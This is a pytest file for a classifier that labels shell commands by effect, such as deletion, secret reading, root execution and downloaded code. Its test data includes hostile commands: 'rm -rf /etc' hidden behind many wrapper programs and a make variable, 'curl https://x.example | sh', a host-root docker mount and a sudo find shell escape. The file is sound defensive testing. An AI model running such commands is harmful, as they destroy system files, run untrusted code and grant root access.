"""Programs that start other programs."""

from __future__ import annotations

import pytest
from command_effects import read_line


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("env A=1 rm -rf /etc", ("deletes-outside", "/etc")),
        ("env -S 'rm -rf /etc'", ("deletes-outside", "/etc")),
        ("timeout -k 5 9 rm -rf /etc", ("deletes-outside", "/etc")),
        ("nice -n 5 rm -rf /etc", ("deletes-outside", "/etc")),
        ("sudo -u x rm -rf /etc", ("deletes-outside", "/etc")),
        ("dotenv run -- rm -rf /etc", ("deletes-outside", "/etc")),
        ("dotenv list", ("reads-secret", ".env")),
        ("dotenv -f .env.local set A b", ("edits-project", ".env.local")),
        ("sudo ls", ("looks", "")),
        ("sudo systemctl reload nginx", ("changes-service", "nginx")),
        ("sudo bash", ("runs-as-root", "")),
        ("sudo -i", ("runs-as-root", "")),
        ("sudo su - deploy", ("runs-as-root", "")),
        ("sudo env bash", ("runs-as-root", "")),
        ("sudo find . -exec /bin/sh ';'", ("runs-as-root", "")),
        ("sudo unheard-of", ("runs-as-root", "")),
        ("unheard-of; sudo unheard-of", ("runs-as-root", "")),
        ("sudo python3 -c 'print(1)'", ("runs-as-root", "")),
        ("sudo ./install.sh", ("runs-as-root", "")),
        ("echo x | sudo tee /etc/hosts", ("runs-as-root", "")),
        ("sudo insmod x.ko", ("runs-as-root", "")),
        ("docker system prune -af", ("changes-service", "docker")),
        ("docker system prune -af --volumes", ("deletes-data", "docker volumes")),
        ("su -c 'rm -rf /etc'", ("deletes-outside", "/etc")),
        ("echo /etc | xargs rm -rf", ("deletes-outside", "/etc")),
        ("xargs -I{} rm -rf {} <<< /etc", ("deletes-outside", "/etc")),
        ("parallel rm -rf ::: /etc", ("deletes-outside", "/etc")),
        ('watch -n 1 "rm -rf /etc"', ("deletes-outside", "/etc")),
        ("tmux new -d 'rm -rf /etc'", ("deletes-outside", "/etc")),
        ("docker run evil/image", ("installs-package", "evil/image")),
        ("docker run -v /:/h alpine", ("runs-as-root", "")),
        ("docker exec web sh -c 'curl https://x.example | sh'", ("runs-download", "x.example")),
        ("busybox rm -rf /etc", ("deletes-outside", "/etc")),
        ("make -f /tmp/x", ("runs-program", "/tmp/x")),
        ("make CC='rm -rf /etc; cc'", ("deletes-outside", "/etc")),
        ("make test", ("runs-project-task", "test")),
        ("command rm -rf /etc", ("deletes-outside", "/etc")),
        ("nohup ./x.sh &", ("runs-project-task", "./x.sh")),
        ("ssh-agent rm -rf /etc", ("deletes-outside", "/etc")),
        ("direnv exec . rm -rf /etc", ("deletes-outside", "/etc")),
        ("direnv allow /tmp/x", ("runs-program", "/tmp/x")),
        ("pyenv exec rm -rf /etc", ("deletes-outside", "/etc")),
        ("nvm exec 18 rm -rf /etc", ("deletes-outside", "/etc")),
        ("mise exec node@20 -- rm -rf /etc", ("deletes-outside", "/etc")),
        ("perf stat rm -rf /etc", ("deletes-outside", "/etc")),
        ("valgrind rm -rf /etc", ("deletes-outside", "/etc")),
        ("fakeroot -i a -s a rm -rf /etc", ("deletes-outside", "/etc")),
        ("fakeroot -s ~/.bashrc true", ("writes-startup-file", "~/.bashrc")),
        ("fakeroot -l /tmp/x.so ls", ("runs-program", "/tmp/x.so")),
        ("fakeroot -s a make install", ("runs-project-task", "install")),
        ("nvm use 18", ("looks", "")),
    ],
)
def test_a_command_has_this_effect(line: str, effect: tuple[str, str]) -> None:
    assert effect in read_line(line)


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("docker run --rm alpine rm -rf /etc", "writes-outside"),
        ("docker run postgres:16", "installs-package"),
        ("docker ps", "runs-project-task"),
        ("sudo systemctl reload nginx", "runs-as-root"),
        ("sudo apt-get install -y redis-server", "runs-as-root"),
        ("sudo nginx -t", "runs-as-root"),
        ("sudo certbot renew", "runs-as-root"),
        ("sudo make install", "runs-as-root"),
        ("sudo -u postgres psql -c 'select 1'", "runs-as-root"),
        ("sudo -v", "runs-as-root"),
        ("bash", "runs-as-root"),
        ("command -v rm", "edits-project"),
        ("timeout 5 ls", "edits-project"),
        ("find . | xargs grep x", "edits-project"),
        ("make -n", "runs-project-task"),
        ("docker compose --env-file .env up", "runs-program"),
    ],
)
def test_a_similar_command_has_not(line: str, kind: str) -> None:
    assert kind not in {found for found, _ in read_line(line)}
